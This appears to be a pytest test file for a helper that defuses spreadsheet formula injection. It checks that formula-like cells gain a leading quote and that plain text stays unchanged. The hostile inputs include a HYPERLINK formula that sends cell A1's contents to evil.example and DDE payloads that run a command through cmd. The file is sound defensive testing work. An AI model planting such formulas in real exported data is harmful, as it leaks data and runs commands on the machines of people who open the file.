"""Cells a spreadsheet would run as formulas are kept as text; ordinary text is left alone."""

from __future__ import annotations

import pytest

from fms.values.spreadsheet_cells import neutralised


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
def test_a_cell_that_opens_like_a_formula_gets_a_quote(hostile: str) -> None:
    assert neutralised(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "plain", ["", "Élodie", "Dev senior = lead", "a-b", "ana@example.com", " =1", "'=1", "100", "\n=1"]
)
def test_other_text_is_unchanged(plain: str) -> None:
    assert neutralised(plain) == plain
